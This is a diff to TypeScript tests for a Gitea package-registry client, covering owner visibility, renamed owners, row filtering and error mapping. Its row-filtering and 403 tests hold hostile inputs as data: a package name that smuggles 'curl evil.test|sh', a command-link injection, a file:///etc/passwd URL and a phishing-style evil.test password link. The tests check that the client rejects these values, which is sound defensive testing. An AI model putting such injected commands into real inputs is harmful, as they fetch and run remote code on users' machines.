@@ -4,9 +4,11 @@ import { packageUrl, tokenSettingsUrl } from '../../../src/core/gitea/webUrls.ts
 import { digestOf } from '../../../src/core/oci/digest.ts';
 import { mediaTypes } from '../../../src/core/oci/mediaTypes.ts';
 import { startStandin } from '../../standin/standin.ts';
+import { serve } from './localRegistry.ts';
 import { clientFor, dev, never, signedIn } from './testClient.ts';
 
 const call = { signal: never };
+const giteaChallenge = 'Bearer realm="http://x/v2/token",service="container_registry",scope="*"';
 
 async function push(client: ReturnType<typeof clientFor>, name: string, tags: readonly string[]): Promise<void> {
   const repository = await client.repository(name, call);
@@ -22,8 +24,8 @@ async function push(client: ReturnType<typeof clientFor>, name: string, tags: re
 test('owners are the user and the organizations in which they may write packages', async (t) => {
   const { client } = await signedIn(t);
   assert.deepEqual(await client.api.pushOwners(call), [
-    { name: 'dev', kind: 'user' },
-    { name: 'team', kind: 'organization' },
+    { name: 'dev', kind: 'user', visibility: 'public' },
+    { name: 'team', kind: 'organization', visibility: 'public' },
   ]);
 });
 
@@ -36,7 +38,7 @@ test('a token that may not ask for the user still gives a suggestion', async (t)
     await standin.close();
   });
   assert.equal(await client.api.currentUser(call), undefined);
-  assert.deepEqual(await client.api.pushOwners(call), [{ name: 'dev', kind: 'user' }]);
+  assert.deepEqual(await client.api.pushOwners(call), [{ name: 'dev', kind: 'user', visibility: undefined }]);
 });
 
 test('the packages of an owner come from all pages', async (t) => {
@@ -50,6 +52,132 @@ test('the packages of an owner come from all pages', async (t) => {
   assert.deepEqual(found.toSorted(), tags.toSorted());
   assert.ok(versions.every(({ owner, createdAt }) => owner === 'team' && createdAt !== undefined));
   assert.ok(standin.requests.filter(({ path }) => path.startsWith('/gitea/api/v1/packages/')).length >= 3);
+});
+
+test('who may see an owner is told, of those one may push to and of others', async (t) => {
+  const { standin, client } = await signedIn(t);
+  standin.directory.addOrganization({
+    name: 'Closed',
+    visibility: 'private',
+    teams: [{ name: 'all', permission: 'write', members: ['dev'] }],
+  });
+  standin.directory.addUser({ name: 'half', password: 'x', visibility: 'limited' });
+  standin.directory.user('dev').visibility = 'limited';
+  assert.deepEqual(await client.api.pushOwners(call), [
+    { name: 'dev', kind: 'user', visibility: 'limited' },
+    { name: 'closed', kind: 'organization', visibility: 'private' },
+    { name: 'team', kind: 'organization', visibility: 'public' },
+  ]);
+  const asked = ['closed', 'half', 'giteaadmin', 'nosuch'].map(async (name) => client.api.visibilityOf(name, call));
+  assert.deepEqual(await Promise.all(asked), ['private', 'limited', 'public', undefined]);
+});
+
+test('the packages of an owner that was renamed are found under the new name', async (t) => {
+  const { standin, client } = await signedIn(t);
+  await push(client, 'team/app', ['v1']);
+  const team = standin.directory.owner('team');
+  assert.ok(team !== undefined);
+  standin.directory.rename(team, 'crew');
+  assert.deepEqual(
+    (await client.api.packages('team', call)).map(({ name }) => name),
+    ['app'],
+  );
+  await push(client, 'team/app', ['v2']);
+  assert.deepEqual(standin.tags('crew', 'app'), ['v1', 'v2']);
+});
+
+test('rows whose names no reference can have are left out, and hide no others', async (t) => {
+  const row = (name: unknown, version: unknown): unknown => ({ id: 1, owner: { login: 'x' }, name, version });
+  const rows = [
+    row('app', 'v1'),
+    row('app\ncurl evil.test|sh #', '1'),
+    row('app', '1`](command:x)'),
+    row('app', `sha256:${'a'.repeat(64)}`),
+    row('App', 'v1'),
+    row(undefined, 'v1'),
+    row('app', 7),
+    { ...(row('group/app', 'v2') as object), created_at: '2026-11-26T00:00:00Z', html_url: 'file:///etc/passwd' },
+    { ...(row('late', 'v2') as object), created_at: 'now', owner: null },
+    null,
+    'text',
+  ];
+  const url = await serve(t, ({ url: path }, response) => {
+    if (path?.startsWith('/api/v1/packages/') === true) response.end(JSON.stringify(rows));
+    else if (path === '/api/v1/version') response.end('{"version":"1.26.4"}');
+    else response.writeHead(401, { 'www-authenticate': giteaChallenge }).end();
+  });
+  const client = clientFor(url, { credential: dev });
+  t.after(() => client.close());
+  const versions = await client.api.packages('Dev', call);
+  assert.deepEqual(
+    versions.slice(0, 4).map(({ owner, name, version, createdAt }) => [owner, name, version, createdAt]),
+    [
+      ['dev', 'app', 'v1', undefined],
+      ['dev', 'app', `sha256:${'a'.repeat(64)}`, undefined],
+      ['dev', 'group/app', 'v2', '2026-11-26T00:00:00Z'],
+      ['dev', 'late', 'v2', undefined],
+    ],
+  );
+  assert.ok(!JSON.stringify(versions).includes('file:'), 'no address of the server is taken over');
+  assert.ok(client.log.some((line) => /7 of 11 package versions of Dev are left out/.test(line)));
+});
+
+for (const [body, code, words] of [
+  ['token does not have at least one of required scope(s): [read:package]', 'scopeMissing', /read:package/],
+  [
+    'token does not have at least one of required scope(s), required=[read:package], token scope=write:issue,read:user',
+    'scopeMissing',
+    /the scope read:package\. It has: write:issue,read:user\.$/,
+  ],
+  [
+    'You must change your password. Change it at: https://evil.test//user/change_password',
+    'accessDenied',
+    /new password first, at http:\/\/127\.0\.0\.1:\d+\/user\/settings\/change_password\.$/,
+  ],
+  [
+    'This account is prohibited from signing in, please contact your site administrator.',
+    'accessDenied',
+    /account sign in: whoever runs the server/,
+  ],
+  ['This account is not activated.', 'accessDenied', /activated/],
+  ['two-factor authentication is required', 'oneTimePasswordNeeded', /second factor/],
+  ['user should have specific permission', 'accessDenied', /list the packages of “dev”: “user should have specific/],
+] as const) {
+  test(`403 “${body.slice(0, 40)}…” of the REST API is ${code}`, async (t) => {
+    const url = await serve(t, ({ url: path }, response) => {
+      if (path === '/api/v1/version') response.end('{"version":"1.26.4"}');
+      else if (path?.startsWith('/api/') === true) response.writeHead(403).end(JSON.stringify({ message: body }));
+      else response.writeHead(401, { 'www-authenticate': giteaChallenge }).end();
+    });
+    const client = clientFor(url, { credential: dev });
+    t.after(() => client.close());
+    await assert.rejects(client.api.packages('dev', call), { code, message: words });
+  });
+}
+
+test('an account that must change its password, or may not sign in, is told so by the registry’s own words', async (t) => {
+  const { standin, client } = await signedIn(t);
+  standin.directory.user('dev').mustChangePassword = true;
+  await assert.rejects(client.api.currentUser(call), { code: 'accessDenied', message: /new password first/ });
+  assert.equal((await client.checkSignIn(call)).username, 'dev', 'the registry takes it all the same');
+  standin.directory.user('dev').mustChangePassword = false;
+  const secret = standin.createToken('dev', ['all']);
+  standin.directory.user('dev').prohibitLogin = true;
+  const byToken = clientFor(standin.url, { credential: { username: 'dev', secret } });
+  t.after(() => byToken.close());
+  await assert.rejects(byToken.api.packages('dev', call), { code: 'accessDenied', message: /switched it off/ });
+});
+
+test('a sign-in page in front of the REST API, and a server that is busy', async (t) => {
+  const { standin, client } = await signedIn(t);
+  await client.server(call);
+  const html = '<html><title>Sign in - Authelia</title></html>';
+  const page = { status: 200, headers: { 'Content-Type': 'text/html' }, body: html };
+  standin.faults.add({ path: /packages/, action: { kind: 'answer', reply: page } });
+  await assert.rejects(client.api.packages('dev', call), { code: 'notARegistry', message: /^A sign-in page answered/ });
+  const busy = { status: 429, headers: { 'Retry-After': '0' } };
+  standin.faults.add({ path: /packages/, times: Infinity, action: { kind: 'answer', reply: busy } });
+  await assert.rejects(client.api.packages('dev', call), { code: 'registryFailed', message: /less often \(429\)/ });
 });
 
 test('an owner that does not exist, and a token without read:package', async (t) => {
